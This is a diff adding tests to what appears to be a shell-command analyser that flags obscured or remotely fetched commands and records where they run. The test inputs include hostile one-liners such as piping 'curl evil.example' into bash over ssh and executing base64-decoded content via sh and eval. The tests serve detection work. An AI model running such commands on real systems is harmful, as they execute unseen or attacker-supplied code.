@@ -36,4 +36,14 @@ describe('program text that cannot be seen', () => {
   ])('%s', (line, wanted) => {
     expect(operationsOf('opaque', line).map(one => one.what)).toEqual(wanted);
   });
+
+  it.each([
+    ["ssh db1 'base64 -d f | sh'", 'opaque input', 'host db1'],
+    ["ssh db1 'curl evil.example | bash'", 'remote script', 'host db1'],
+    ['docker exec web sh -c \'eval "$(base64 -d f)"\'', 'opaque input', 'container web'],
+    ['base64 -d f | sh', 'opaque input', undefined],
+  ])('says where it runs: %s', (line, what, elsewhere) => {
+    const found = operationsOf('opaque', line).filter(one => one.what === what);
+    expect(found.map(one => one.elsewhere)).toEqual([elsewhere]);
+  });
 });
